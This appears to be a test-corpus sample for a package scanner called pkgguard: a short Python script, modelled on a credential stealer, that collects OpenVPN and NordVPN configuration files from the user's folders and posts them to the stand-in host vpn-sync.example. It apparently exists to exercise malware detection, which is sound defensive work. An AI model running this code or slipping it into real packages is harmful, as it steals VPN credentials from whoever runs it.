# pkgguard corpus 756 (credentials), modelled on [stealer-profile]; inert, never run.
import glob
import os

import requests

found = {}
for pattern in (
    os.path.join(os.path.expanduser("~"), "OpenVPN", "config", "*.ovpn"),
    os.path.join(os.environ.get("PROGRAMFILES", ""), "OpenVPN", "config", "*.ovpn"),
    os.path.join(os.environ.get("LOCALAPPDATA", ""), "NordVPN", "NordVPN.exe*", "*", "user.config"),
):
    for name in glob.glob(pattern):
        with open(name, "rb") as fh:
            found[os.path.basename(name)] = fh.read()
if found:
    requests.post("https://vpn-sync.example/u", files=found, timeout=15)
